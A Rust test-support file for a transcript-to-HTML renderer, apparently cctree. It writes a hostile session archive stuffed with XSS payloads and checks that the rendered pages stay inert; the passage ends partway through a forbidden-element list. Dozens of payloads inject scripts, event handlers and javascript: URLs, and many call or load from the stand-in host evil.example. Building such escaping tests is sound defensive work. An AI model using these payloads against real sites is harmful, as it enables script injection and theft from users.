//! The XSS suite: a hostile archive with a payload list in every
//! field that reaches a page, and a fast check of the rendered HTML.
//!
//! [`write_hostile_archive`] writes the archive (add a payload to
//! [`payloads`], a field by calling `t("name")` in a new place). Every
//! payload, if it ever ran, would call `alert()`, log `XSS-EXECUTED` and fetch
//! `http://evil.example/…`, so the browser trap (`tests/browser/run.mjs
//! --xss-site`, driven by `browser.rs`) catches it. Each field's text starts
//! with a marker `ZQ<field>QZ`, so the suite can also prove that the payloads
//! did reach the pages (a suite whose payloads are all dropped proves nothing).
//!
//! The Rust-side check ([`check_inert`]) parses every page into tags and
//! refuses: scripts other than our own, `on*=` handlers, `style=`, dangerous
//! elements (`iframe`, `base`, `meta refresh`, `object`, `form`, `style`…),
//! `javascript:`/`vbscript:`/`data:` URLs, resources loaded from elsewhere,
//! a second `<title>` or `<body>`, and files outside the output directory.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use base64::Engine;
use serde_json::{Value, json};

use crate::support::cctree;

/// What a payload does if it runs.
const JS: &str = "alert('XSS');console.log('XSS-EXECUTED');fetch('http://evil.example/ran')";

/// The payload list. Every one is harmless as text and must stay text.
pub fn payloads() -> Vec<String> {
    let js = JS;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    vec![
        // Script tags.
        format!("<script>{js}</script>"),
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>".into(),
        format!("<script type=module>{js}</script>"),
        format!("<scr<script>ipt>{js}</scr</script>ipt>"),
        // Event handlers.
        "<img src=x onerror=alert(1)>".into(),
        format!("<img src=\"http://evil.example/i.png\" onerror=\"{js}\">"),
        format!("<svg onload=\"{js}\"></svg>"),
        format!("<svg><script>{js}</script></svg>"),
        format!("<svg><a xlink:href=\"javascript:{js}\"><text>svg link</text></a><animate onbegin=\"{js}\"/></svg>"),
        format!("<details open ontoggle=\"{js}\"><summary>d</summary></details>"),
        format!("<input autofocus onfocus=\"{js}\">"),
        format!("<body onload=\"{js}\">"),
        format!("<video poster=http://evil.example/p.png><source src=x onerror=\"{js}\"></video>"),
        // Attribute and element breakouts.
        "\"><svg onload=alert(1)>".into(),
        "'><svg onload=alert(2)>".into(),
        format!("\" onmouseover=\"{js}\" autofocus onfocus=\"{js}\" x=\""),
        format!("' onmouseover='{js}' x='"),
        format!("` onmouseover=`{js}`"),
        format!("</pre><script>{js}</script><pre>"),
        format!("</code></pre><img src=x onerror=\"{js}\"><pre><code>"),
        format!("</textarea><script>{js}</script>"),
        format!("</title><script>{js}</script>"),
        format!("</summary></details><script>{js}</script>"),
        format!("</a><script>{js}</script>"),
        format!("--><script>{js}</script><!--"),
        format!("<!--<img src=x onerror=\"{js}\">-->"),
        format!("<![CDATA[<img src=x onerror=\"{js}\">]]>"),
        format!("<noscript><p title=\"</noscript><img src=x onerror='{js}'>\"></noscript>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror=\"{js}\">"),
        format!("<template><script>{js}</script></template>"),
        // CSS injection.
        "</style><style>body{background:url(http://evil.example/x)}</style>".into(),
        "<style>@import 'http://evil.example/i.css';</style>".into(),
        "<link rel=stylesheet href=http://evil.example/l.css>".into(),
        "<div style=\"background:url(http://evil.example/d.png)\">styled</div>".into(),
        // Frames, base, refresh, objects, forms.
        "<iframe srcdoc=\"&lt;script&gt;alert('XSS');fetch('http://evil.example/srcdoc')&lt;/script&gt;\"></iframe>"
            .into(),
        format!("<iframe src=\"javascript:{js}\"></iframe>"),
        "<iframe src=\"http://evil.example/frame\"></iframe>".into(),
        "<base href=\"http://evil.example/\">".into(),
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/refresh\">".into(),
        format!("<meta http-equiv=refresh content=\"0;url=javascript:{js}\">"),
        "<object data=\"http://evil.example/o\"></object><embed src=\"http://evil.example/e\">".into(),
        "<form action=\"http://evil.example/f\"><button formaction=\"javascript:alert(1)\">go</button></form>".into(),
        format!("<a href=\"javascript:{js}\">html link</a>"),
        "<img srcset=\"http://evil.example/s.png 1x\">".into(),
        // Markdown links, autolinks and images.
        format!("[md link](javascript:{js})"),
        "[md link 2](JaVaScRiPt:alert(1))".into(),
        "[md link 3](&#106;avascript:alert(1))".into(),
        "[md link 4](java&#x09;script:alert(1))".into(),
        "[md link 5](<javascript:alert(1)>)".into(),
        "[md link 6]( javascript:alert(1) \"t\")".into(),
        format!("[md data](data:text/html;base64,{})", b64(&format!("<script>{js}</script>"))),
        "[md data 2](data:text/html,<script>alert(1)</script>)".into(),
        "[md vbscript](vbscript:msgbox(1))".into(),
        "[md ref][evil]\n\n[evil]: javascript:alert(1)".into(),
        "<javascript:alert(1)>".into(),
        "<data:text/html,alert(1)>".into(),
        "![md image](http://evil.example/t.png)".into(),
        "![md image 2](https://evil.example/t.png \"title\")".into(),
        "![md image 3](javascript:alert(1))".into(),
        "![md image 4](//evil.example/p.png)".into(),
        "[quote breakout](http://evil.example/\" onmouseover=\"alert(1))".into(),
        "[query breakout](https://ok.example/?q=\"><svg/onload=alert(1)>)".into(),
        "<http://evil.example/\"onmouseover=alert(1)>".into(),
        "www.evil.example/x\"onmouseover=alert(1)".into(),
        "```html\n<script>alert(1)</script>\n```".into(),
        "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>alert(1)</script> | [t](javascript:alert(1)) |"
            .into(),
        // HTML entities and unicode tricks.
        "&lt;script&gt;alert(1)&lt;/script&gt;".into(),
        "&#60;img src=x onerror=alert(1)&#62;".into(),
        "\\<script>alert(1)\\</script>".into(),
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}".into(),
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>".into(),
        "\u{202e}<img src=x onerror=alert(1)>\u{202c}".into(),
        "\u{2028}\u{2029}</script><script>alert(1)</script>".into(),
        "%3Cscript%3Ealert(1)%3C/script%3E".into(),
        "{{ 7*7 }} {% raw %} ${alert(1)} `${alert(1)}`".into(),
        // Control characters (shown as Control Pictures, never raw).
        "c0 \u{0}\u{7}\u{8}\u{b}\u{c}\r\u{1b}(B\u{1b}[m\u{1b}P1$q\u{1b}\\\u{7f} `\u{1b}[1m` end".into(),
    ]
}

/// The marker that starts a field's text.
pub fn marker(field: &str) -> String {
    format!("ZQ{field}QZ")
}

/// A field's hostile text: its marker, then every payload as blocks, then inline.
fn t(field: &str) -> String {
    let p = payloads();
    format!("{} {}\n\n{}\n", marker(field), p.join("\n\n"), p.join(" "))
}

/// A short hostile text for identifiers, names and paths.
fn s(field: &str) -> String {
    format!("{}\"><svg onload=alert(1)><script>{JS}</script>'", marker(field))
}

/// Colour codes and an OSC 8 hyperlink with hostile targets, for terminal output.
fn ansi(field: &str) -> String {
    format!(
        "\u{1b}[31m{}\u{1b}[0m \u{1b}]8;;javascript:alert(1)\u{1b}\\osc8 link\u{1b}]8;;\u{1b}\\ \
         \u{1b}]8;;http://evil.example/\"onmouseover=alert(1)\u{7}osc8 quote\u{1b}]8;;\u{7} \
         \u{1b}[38;2;\"><svg onload=alert(1)>m\u{1b}[1m{}\u{1b}[0m",
        t(field),
        marker(&format!("{field}bold"))
    )
}

/// Which fields the archive puts payloads in, and whether each must appear in the site.
pub struct Hostile {
    pub projects: PathBuf,
    /// `(field, must reach a page)`.
    pub fields: Vec<(String, bool)>,
}

struct Gen {
    session: String,
    cwd: String,
    n: u64,
    lines: Vec<Value>,
    fields: Vec<(String, bool)>,
}

impl Gen {
    fn ts(&self, i: u64) -> String {
        format!("2026-02-01T10:{:02}:{:02}.000Z", (i / 60) % 60, i % 60)
    }
    /// A hostile uuid, unique per `n`.
    fn uuid(n: u64) -> String {
        format!("ZQuuid{n}QZ\"><img src=x onerror=alert({n})>")
    }
    fn base(&mut self, kind: &str, parent: Option<&str>) -> (String, Value) {
        self.n += 1;
        let uuid = Self::uuid(self.n);
        let v = json!({
            "type": kind, "uuid": uuid, "parentUuid": parent, "isSidechain": false, "userType": "external",
            "cwd": self.cwd, "sessionId": self.session, "version": s("version"), "gitBranch": s("gitbranch"),
            "timestamp": self.ts(self.n),
        });
        (uuid, v)
    }
    fn push(&mut self, v: Value) {
        self.lines.push(v);
    }
    fn user(&mut self, parent: Option<&str>, content: Value, extra: Value) -> String {
        let (uuid, mut v) = self.base("user", parent);
        v["message"] = json!({"role": "user", "content": content});
        merge(&mut v, extra);
        self.push(v);
        uuid
    }
    fn assistant(&mut self, parent: &str, content: Value) -> String {
        let (uuid, mut v) = self.base("assistant", Some(parent));
        v["message"] = json!({
            "model": t("model"), "id": format!("msg_{}", self.n), "type": "message", "role": "assistant",
            "content": content, "stop_reason": null,
            "usage": {"input_tokens": 3, "output_tokens": 9, "service_tier": s("servicetier")},
        });
        v["requestId"] = json!(s("requestid"));
        self.push(v);
        uuid
    }
    /// A tool call and its result; returns the result's uuid.
    fn tool(&mut self, parent: &str, name: &str, input: Value, result: Value, tur: Value) -> String {
        let id = format!("toolu_{}", self.n + 1);
        let a = self.assistant(parent, json!([{"type": "tool_use", "id": id, "name": name, "input": input}]));
        self.user(
            Some(&a),
            json!([{"tool_use_id": id, "type": "tool_result", "content": result, "is_error": false}]),
            if tur.is_null() { json!({}) } else { json!({"toolUseResult": tur, "sourceToolAssistantUUID": a}) },
        )
    }
    fn field(&mut self, name: &str, must: bool) {
        self.fields.push((name.to_string(), must));
    }
}

fn merge(v: &mut Value, extra: Value) {
    if let Value::Object(m) = extra {
        for (k, x) in m {
            v[k] = x;
        }
    }
}

fn b64(bytes: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Writes the hostile archive under `root/projects` and says which fields it filled.
pub fn write_hostile_archive(root: &Path) -> Hostile {
    let projects = root.join("projects");
    // A project directory whose name is hostile too (no `/` possible in a name).
    let project = projects.join(format!("-tmp-{}\"><svg onload=alert(1)>", marker("projdir")));
    let session = s("sessionid");
    let session_file = format!("{}\"><img src=x onerror=alert(1)>", marker("sessionfile"));
    let agent_id = format!("{}\"><svg onload=alert(1)>", marker("agentid"));
    let mut g = Gen { session: session.clone(), cwd: t("cwd"), n: 0, lines: Vec::new(), fields: Vec::new() };
    for (f, must) in [
        ("projdir", false),
        ("sessionid", false),
        ("sessionfile", false),
        ("cwd", true),
        ("version", false),
        ("gitbranch", false),
        ("model", true),
        ("servicetier", false),
        ("requestid", false),
    ] {
        g.field(f, must);
    }

    // The conversation: prompts, replies, thinking, every tool.
    let p1 = g.user(None, json!(t("prompt")), json!({}));
    let a = g.assistant(&p1, json!([{"type": "thinking", "thinking": t("thinking"), "signature": s("signature")}]));
    let a = g.assistant(&a, json!([{"type": "text", "text": t("reply")}]));
    g.field("prompt", true);
    g.field("thinking", true);
    g.field("reply", true);
    g.field("signature", false);

    let r = g.tool(
        &a,
        "Bash",
        json!({"command": t("bashcommand"), "description": t("bashdescription")}),
        json!(ansi("bashresult")),
        json!({"stdout": ansi("bashstdout"), "stderr": t("bashstderr"), "interrupted": false, "isImage": false}),
    );
    let r = g.tool(
        &r,
        "Edit",
        json!({"file_path": s("editpath"), "old_string": t("editold"), "new_string": t("editnew"), "replace_all": false}),
        json!(t("editresult")),
        json!({"filePath": s("editpath2"), "oldString": t("editold2"), "newString": t("editnew2"),
               "originalFile": t("editoriginal"),
               "structuredPatch": [{"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1,
                                    "lines": [format!("-{}", s("patchold")), format!("+{}", s("patchnew"))]}]}),
    );
    let r = g.tool(
        &r,
        "MultiEdit",
        json!({"file_path": s("multieditpath"), "edits": [{"old_string": t("multiold"), "new_string": t("multinew")}]}),
        json!(t("multiresult")),
        json!(t("multitur")),
    );
    let r = g.tool(
        &r,
        "Write",
        json!({"file_path": format!("/tmp/{}.html", s("writepath")), "content": t("writecontent")}),
        json!(t("writeresult")),
        json!({"type": "create", "filePath": format!("/tmp/{}.svg", s("writepath2")), "content": t("writetur")}),
    );
    let r = g.tool(
        &r,
        "Read",
        json!({"file_path": format!("/tmp/{}.svg", s("readpath")), "offset": 1, "limit": 5}),
        json!(format!("     1\u{2192}{}", t("readresult"))),
        json!({"type": "text", "file": {"filePath": s("readpath2"), "content": t("readfile"),
               "numLines": 5, "startLine": 1, "totalLines": 5}}),
    );
    let r = g.tool(
        &r,
        "Grep",
        json!({"pattern": t("greppattern"), "path": s("greppath"), "glob": s("grepglob"), "output_mode": "content"}),
        json!(t("grepresult")),
        json!({"mode": "content", "content": t("greptur"), "filenames": [s("grepfile")], "numFiles": 1}),
    );
    let r = g.tool(
        &r,
        "Glob",
        json!({"pattern": t("globpattern"), "path": s("globpath")}),
        json!(t("globresult")),
        json!({"filenames": [s("globfile")], "numFiles": 1, "truncated": false}),
    );
    let r = g.tool(
        &r,
        "WebFetch",
        json!({"url": format!("javascript:{JS}//{}", marker("webfetchurl")), "prompt": t("webfetchprompt")}),
        json!(t("webfetchresult")),
        json!({"url": format!("http://evil.example/{}\"><svg onload=alert(1)>", marker("webfetchurl2")),
               "result": t("webfetchtur"), "code": 200, "codeText": s("webfetchcode"), "bytes": 10}),
    );
    let r = g.tool(
        &r,
        "WebFetch",
        json!({"url": format!("https://evil.example/{}?a=\"><svg onload=alert(1)>", marker("webfetchurl3")), "prompt": "p"}),
        json!("ok"),
        json!({}),
    );
    let r = g.tool(
        &r,
        "WebSearch",
        json!({"query": t("websearchquery")}),
        json!(t("websearchresult")),
        json!({"query": s("websearchtur"), "results": [{"title": s("websearchtitle"), "url": "javascript:alert(1)"}]}),
    );
    // The same tools without a `toolUseResult`, so their inputs and results render from the message.
    let r = g.tool(&r, "Bash", json!({"command": s("bashcommand3")}), json!(ansi("bashresult3")), json!(null));
    let r = g.tool(
        &r,
        "Edit",
        json!({"file_path": s("editpath3"), "old_string": t("editold3"), "new_string": t("editnew3")}),
        json!(t("editresult3")),
        json!(null),
    );
    let r = g.tool(&r, "Read", json!({"file_path": s("readpath3")}), json!(t("readresult3")), json!(null));
    let todos = json!([{"content": t("todocontent"), "status": s("todostatus"), "activeForm": t("todoactive")},
                       {"content": "done one", "status": "completed", "activeForm": "x"}]);
    let r = g.tool(
        &r,
        "TodoWrite",
        json!({"todos": todos}),
        json!(t("todoresult")),
        json!({"oldTodos": [], "newTodos": todos}),
    );
    // MCP and unknown tools, with a result holding images of hostile media types.
    let svg = b64(&format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{JS}\"><script>{JS}</script></svg>"));
    let html = b64(&format!("<script>{JS}</script>"));
    let r = g.tool(
        &r,
        &format!("mcp__evil<script>{JS}</script>__{}", s("mcpname")),
        json!({"html": t("mcpinput"), s("mcpkey"): [s("mcparray")]}),
        json!([{"type": "text", "text": t("mcpresult")},
               {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": svg}},
               {"type": "image", "source": {"type": "base64", "media_type": "text/html", "data": html}},
               {"type": "image", "source": {"type": "base64", "media_type": s("mediatype"), "data": html}},
               {"type": s("resultblocktype"), "text": t("resultblock")}]),
        json!([t("mcptur"), {"x": s("mcptur2")}]),
    );
    let r =
        g.tool(&r, &s("toolname"), json!(t("toolinputstring")), json!(t("toolnameresult")), json!(s("toolnametur")));
    // A tool call that failed.
    let id = format!("toolu_err{}", g.n);
    let a = g.assistant(&r, json!([{"type": "tool_use", "id": id, "name": "Bash", "input": {"command": "false"}}]));
    let r = g.user(
        Some(&a),
        json!([{"tool_use_id": id, "type": "tool_result", "content": t("errorresult"), "is_error": true}]),
        json!({"toolUseResult": format!("Error: {}", t("errortur"))}),
    );
    // A tool_result inside an assistant message, and an unknown content block.
    let r = g.assistant(
        &r,
        json!([{"type": "tool_result", "tool_use_id": "nope", "content": t("assistantresult")},
               {"type": s("unknownblocktype"), "payload": t("unknownblock")},
               {"type": "text", "text": t("reply2")}]),
    );
    // The sub-agent, its spawning call and its result.
    let task_id = format!("toolu_task{}", g.n);
    let a = g.assistant(
        &r,
        json!([{"type": "tool_use", "id": task_id, "name": "Task",
                "input": {"description": t("taskdescription"), "prompt": t("taskprompt"), "subagent_type": s("tasktype")}}]),
    );
    let r = g.user(
        Some(&a),
        json!([{"tool_use_id": task_id, "type": "tool_result",
                "content": [{"type": "text", "text": t("taskresult")},
                            {"type": "text", "text": format!("agentId: {agent_id} (for resuming)")}]}]),
        json!({"toolUseResult": {"status": "completed", "prompt": t("taskprompt2"), "agentId": agent_id,
               "content": [{"type": "text", "text": t("tasktur")}], "totalDurationMs": 5, "totalTokens": 5}}),
    );
    for f in [
        "bashcommand",
        "bashdescription",
        "bashstdout",
        "editpath",
        "multieditpath",
        "multiold",
        "multinew",
        "writepath",
        "writecontent",
        "readpath",
        "greppattern",
        "grepresult",
        "bashcommand3",
        "bashresult3",
        "editpath3",
        "editold3",
        "editnew3",
        "readpath3",
        "readresult3",
        "globpattern",
        "globresult",
        "webfetchurl3",
        "webfetchprompt",
        "webfetchresult",
        "websearchquery",
        "websearchresult",
        "todocontent",
        "mcpname",
        "mcpinput",
        "mcpresult",
        "toolname",
        "toolinputstring",
        "toolnameresult",
        "errorresult",
        "reply2",
        "taskdescription",
        "taskprompt",
        "taskresult",
        "agentid",
    ] {
        g.field(f, true);
    }
    for f in [
        "bashresult",
        "editold",
        "editnew",
        "readresult",
        "editresult3",
        "bashresult3bold",
        "bashstderr",
        "editresult",
        "editpath2",
        "editold2",
        "editnew2",
        "editoriginal",
        "patchold",
        "patchnew",
        "multiresult",
        "multitur",
        "writeresult",
        "writepath2",
        "writetur",
        "readpath2",
        "readfile",
        "greppath",
        "grepglob",
        "greptur",
        "grepfile",
        "globpath",
        "globfile",
        "webfetchurl",
        "webfetchurl2",
        "webfetchtur",
        "webfetchcode",
        "websearchtur",
        "websearchtitle",
        "todostatus",
        "todoactive",
        "todoresult",
        "mcpkey",
        "mcparray",
        "mediatype",
        "resultblocktype",
        "resultblock",
        "mcptur",
        "mcptur2",
        "toolnametur",
        "errortur",
        "assistantresult",
        "unknownblocktype",
        "unknownblock",
        "tasktype",
        "taskprompt2",
        "tasktur",
        "bashresultbold",
        "bashstdoutbold",
    ] {
        g.field(f, false);
    }

    // Prompt with content blocks: text, images of hostile media types, an unknown block.
    let r = g.user(
        Some(&r),
        json!([{"type": "text", "text": t("promptblock")},
               {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": svg}},
               {"type": "image", "source": {"type": "base64", "media_type": "text/html", "data": html}},
               {"type": "image", "source": {"type": "url", "url": "http://evil.example/img.png"}},
               {"type": "document", "source": {"type": "text", "media_type": "text/html", "data": t("document")}}]),
        json!({}),
    );
    g.field("promptblock", true);
    g.field("document", false);
    let r = g.assistant(&r, json!([{"type": "text", "text": t("reply3")}]));
    g.field("reply3", true);

    // System entries, hooks, attachments, commands, meta.
    let (u, mut v) = g.base("system", Some(&r));
    merge(
        &mut v,
        json!({"subtype": "informational", "content": t("systemcontent"), "level": s("systemlevel"), "isMeta": false}),
    );
    g.push(v);
    let (u, mut v) = g.base("system", Some(&u));
    merge(&mut v, json!({"subtype": s("systemsubtype"), "content": t("systemcontent2")}));
    g.push(v);
    let (u, mut v) = g.base("system", Some(&u));
    merge(
        &mut v,
        json!({"subtype": "stop_hook_summary", "hookCount": 1, "hookInfos": [{"command": t("hookinfocommand")}],
               "hookErrors": [t("hookerror")], "preventedContinuation": false, "stopReason": t("stopreason"),
               "hasOutput": true, "level": "suggestion"}),
    );
    g.push(v);
    let (u, mut v) = g.base("attachment", Some(&u));
    v["attachment"] = json!({"type": "hook_success", "hookName": s("hookname"), "toolUseID": "x", "hookEvent": s("hookevent"),
        "content": t("hookcontent"), "stdout": ansi("hookstdout"), "stderr": t("hookstderr"), "exitCode": 0,
        "command": t("hookcommand"), "durationMs": 3});
    g.push(v);
    let (u, mut v) = g.base("attachment", Some(&u));
    v["attachment"] =
        json!({"type": s("attachmenttype"), "content": t("attachmentcontent"), "path": s("attachmentpath")});
    g.push(v);
    let u = g.user(
        Some(&u),
        json!(format!(
            "<command-name>/{}</command-name>\n<command-message>{}</command-message>\n<command-args>{}</command-args>",
            s("commandname"),
            s("commandmessage"),
            t("commandargs")
        )),
        json!({}),
    );
    let u = g.user(
        Some(&u),
        json!(format!("<local-command-stdout>{}</local-command-stdout>", ansi("localstdout"))),
        json!({}),
    );
    let u = g.user(Some(&u), json!(format!("<bash-input>{}</bash-input>", t("bashinput"))), json!({}));
    let u = g.user(
        Some(&u),
        json!(format!(
            "<bash-stdout>{}</bash-stdout><bash-stderr>{}</bash-stderr>",
            t("bashoutstdout"),
            t("bashoutstderr")
        )),
        json!({}),
    );
    let u = g.user(Some(&u), json!(t("metaprompt")), json!({"isMeta": true}));
    // An unknown entry type in the tree, and one outside it.
    let (u, mut v) = g.base(&s("unknowntype"), Some(&u));
    v["payload"] = json!({"note": t("unknownentry")});
    v["content"] = json!(t("unknowncontent"));
    g.push(v);
    g.push(json!({"type": s("unknownmeta"), "sessionId": session, "payload": t("unknownmetapayload")}));
    g.push(
        json!({"type": "queue-operation", "operation": "enqueue", "timestamp": g.ts(0), "content": t("queuecontent"),
                  "sessionId": session}),
    );
    for f in [
        "systemcontent",
        "hookstdout",
        "hookcommand",
        "commandname",
        "commandargs",
        "localstdout",
        "bashinput",
        "bashoutstdout",
        "metaprompt",
        "unknowntype",
    ] {
        g.field(f, true);
    }
    for f in [
        "systemlevel",
        "systemsubtype",
        "systemcontent2",
        "hookinfocommand",
        "hookerror",
        "stopreason",
        "hookname",
        "hookevent",
        "hookcontent",
        "hookstderr",
        "attachmenttype",
        "attachmentcontent",
        "attachmentpath",
        "commandmessage",
        "bashoutstderr",
        "unknownentry",
        "unknowncontent",
        "unknownmeta",
        "unknownmetapayload",
        "queuecontent",
        "hookstdoutbold",
        "localstdoutbold",
    ] {
        g.field(f, false);
    }

    // A fork: two prompts answer the same reply; the second branch forks again.
    let a = g.assistant(&u, json!([{"type": "text", "text": t("forkpoint")}]));
    let b1 = g.user(Some(&a), json!(t("branchprompt1")), json!({}));
    let b1r = g.assistant(&b1, json!([{"type": "text", "text": t("branchreply1")}]));
    let b2 = g.user(Some(&a), json!(t("branchprompt2")), json!({}));
    let b2r = g.assistant(&b2, json!([{"type": "text", "text": t("branchreply2")}]));
    let n1 = g.user(Some(&b2r), json!(t("nestedprompt1")), json!({}));
    let n1r = g.assistant(&n1, json!([{"type": "text", "text": t("nestedreply1")}]));
    let n2 = g.user(Some(&b2r), json!(t("nestedprompt2")), json!({}));
    let n2r = g.assistant(&n2, json!([{"type": "text", "text": t("nestedreply2")}]));
    let _ = &b1r;
    // Compaction: a boundary and its summary, continuing the last branch.
    let (c, mut v) = g.base("system", None);
    merge(
        &mut v,
        json!({"subtype": "compact_boundary", "content": t("compactboundary"), "logicalParentUuid": n2r,
               "compactMetadata": {"trigger": s("compacttrigger"), "preTokens": 5}}),
    );
    g.push(v);
    let cs = g.user(
        Some(&c),
        json!(t("compactsummary")),
        json!({"isCompactSummary": true, "isVisibleInTranscriptOnly": true}),
    );
    let _ = g.assistant(&cs, json!([{"type": "text", "text": t("aftercompact")}]));
    // Titles and summaries.
    g.push(json!({"type": "summary", "summary": t("summary"), "leafUuid": n1r}));
    g.push(json!({"type": "custom-title", "customTitle": t("customtitle"), "sessionId": session}));
    g.push(json!({"type": "ai-title", "aiTitle": t("aititle"), "sessionId": session}));
    g.push(json!({"type": "last-prompt", "lastPrompt": t("lastprompt"), "sessionId": session}));
    for f in [
        "forkpoint",
        "branchprompt1",
        "branchreply1",
        "branchprompt2",
        "branchreply2",
        "nestedprompt1",
        "nestedreply1",
        "nestedprompt2",
        "nestedreply2",
        "compactsummary",
        "aftercompact",
        "summary",
        "customtitle",
    ] {
        g.field(f, true);
    }
    for f in ["aititle", "lastprompt", "compactboundary", "compacttrigger"] {
        g.field(f, false);
    }
    let main_lines = std::mem::take(&mut g.lines);

    // A second conversation, titled only by its ai-title and a summary.
    g.session = s("sessionid2");
    g.cwd = s("cwd2");
    let p = g.user(None, json!(t("prompt2")), json!({}));
    let r = g.assistant(&p, json!([{"type": "text", "text": t("reply4")}]));
    g.push(json!({"type": "ai-title", "aiTitle": t("aititle2"), "sessionId": g.session}));
    g.push(json!({"type": "summary", "summary": t("summary2"), "leafUuid": r}));
    g.field("prompt2", true);
    g.field("reply4", true);
    g.field("aititle2", true);
    g.field("sessionid2", false);
    g.field("cwd2", false);
    g.field("summary2", false);
    let second_lines = std::mem::take(&mut g.lines);

    // The sub-agent transcript and its meta file.
    g.session = session.clone();
    let p = g.user(None, json!(t("agentprompt")), json!({"isSidechain": true, "agentId": agent_id}));
    let r = g.assistant(&p, json!([{"type": "text", "text": t("agentreply")}]));
    let mut agent_lines = std::mem::take(&mut g.lines);
    for v in &mut agent_lines {
        v["isSidechain"] = json!(true);
        v["agentId"] = json!(agent_id);
    }
    let _ = r;
    g.field("agentprompt", true);
    g.field("agentreply", true);
    g.field("agentdescription", true);
    g.field("agenttype", false);

    let write = |path: PathBuf, lines: &[Value]| {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let body: String = lines.iter().map(|l| format!("{l}\n")).collect();
        std::fs::write(path, body).unwrap();
    };
    write(project.join(format!("{session_file}.jsonl")), &main_lines);
    write(project.join(format!("{}.jsonl", marker("secondfile"))), &second_lines);
    let sub = project.join(&session_file).join("subagents");
    write(sub.join(format!("agent-{agent_id}.jsonl")), &agent_lines);
    let meta = json!({"agentType": t("agenttype"), "description": t("agentdescription")});
    std::fs::write(sub.join(format!("agent-{agent_id}.meta.json")), meta.to_string()).unwrap();
    Hostile { projects, fields: g.fields }
}

/// Renders the hostile archive with the binary into `out`.
pub fn render_hostile(root: &Path, out: &Path) -> Hostile {
    let h = write_hostile_archive(root);
    let o = cctree().args(["-q", "render"]).arg(&h.projects).arg("-o").arg(out).output().unwrap();
    assert!(o.status.success(), "render failed: {}", String::from_utf8_lossy(&o.stderr));
    h
}

// ---------------------------------------------------------------------------
// The Rust-side check.

/// A start tag: lowercase name and attributes (lowercase names, raw values).
#[derive(Debug)]
pub struct StartTag {
    pub name: String,
    pub attrs: Vec<(String, String)>,
    pub raw: String,
}

/// The start tags of an HTML text, tokenized like a browser would in the
/// `data` state (comments skipped, quoted and unquoted attribute values).
pub fn start_tags(html: &str) -> Vec<StartTag> {
    let b = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        if html[i..].starts_with("<!--") {
            i = html[i + 4..].find("-->").map_or(b.len(), |e| i + 4 + e + 3);
            continue;
        }
        if i + 1 >= b.len() || !b[i + 1].is_ascii_alphabetic() {
            i += 1;
            continue;
        }
        let start = i;
        let mut j = i + 1;
        while j < b.len() && !b[j].is_ascii_whitespace() && b[j] != b'>' && b[j] != b'/' {
            j += 1;
        }
        let name = html[i + 1..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() || b[j] == b'>' {
                break;
            }
            let ns = j;
            while j < b.len() && !b[j].is_ascii_whitespace() && !matches!(b[j], b'>' | b'/' | b'=') {
                j += 1;
            }
            let an = html[ns..j].to_ascii_lowercase();
            let mut val = String::new();
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if j < b.len() && b[j] == b'=' {
                j += 1;
                while j < b.len() && b[j].is_ascii_whitespace() {
                    j += 1;
                }
                if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
                    let q = b[j];
                    let vs = j + 1;
                    j = vs;
                    while j < b.len() && b[j] != q {
                        j += 1;
                    }
                    val = html[vs..j.min(b.len())].to_string();
                    j += 1;
                } else {
                    let vs = j;
                    while j < b.len() && !b[j].is_ascii_whitespace() && b[j] != b'>' {
                        j += 1;
                    }
                    val = html[vs..j].to_string();
                }
            }
            if an.is_empty() {
                j += 1;
                continue;
            }
            attrs.push((an, val));
        }
        let end = j.min(b.len());
        out.push(StartTag { name, attrs, raw: html[start..end].to_string() });
        i = end;
    }
    out
}

/// Decodes the character references a browser would in an attribute value.
pub fn decode_entities(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        rest = &rest[i..];
        // Numeric references end at the first non-digit (the `;` is optional).
        let numeric = rest.strip_prefix("&#").map(|r| {
            let hex = r.starts_with(['x', 'X']);
            let digits = if hex { &r[1..] } else { r };
            let n = digits.chars().take_while(|c| if hex { c.is_ascii_hexdigit() } else { c.is_ascii_digit() }).count();
            let value = u32::from_str_radix(&digits[..n], if hex { 16 } else { 10 }).ok().and_then(char::from_u32);
            let len = 2 + usize::from(hex) + n + usize::from(digits[n..].starts_with(';'));
            (value, len)
        });
        if let Some((c, len)) = numeric {
            out.push(c.unwrap_or('\u{fffd}'));
            rest = &rest[len..];
            continue;
        }
        let end = rest.find(';').filter(|&e| e < 12);
        let decoded = end.and_then(|e| {
            let ent = &rest[1..e];
            let c = match ent {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "colon" => Some(':'),
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                _ => None,
            };
            c.map(|c| (c, e + 1))
        });
        match decoded {
            Some((c, len)) => {
                out.push(c);
                rest = &rest[len..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Elements no page may contain, whatever the attributes.
const FORBIDDEN: &[&str] = &[
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "style",
    "math",
    "template",
    "noscript",
    "textarea",
    "xmp",
    "plaintext",
    "video",
    "audio",
    "source",
    "track",
    "portal",
